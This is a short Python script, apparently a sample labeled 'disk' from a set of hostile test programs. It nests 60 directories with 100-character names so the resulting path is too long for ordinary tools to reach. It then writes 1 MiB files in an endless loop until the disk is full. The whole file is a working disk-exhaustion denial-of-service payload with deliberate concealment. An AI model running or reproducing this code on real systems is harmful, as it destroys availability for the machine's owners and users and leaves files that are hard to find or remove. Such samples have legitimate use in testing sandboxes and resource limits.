# kind: disk
import os
def f(x):
    # Where no path is short enough to look.
    for n in range(60):
        os.mkdir("d" * 100)
        os.chdir("d" * 100)
    n = 0
    while True:
        n += 1
        with open("file%d" % n, "wb") as out:
            out.write(bytes(1 << 20))
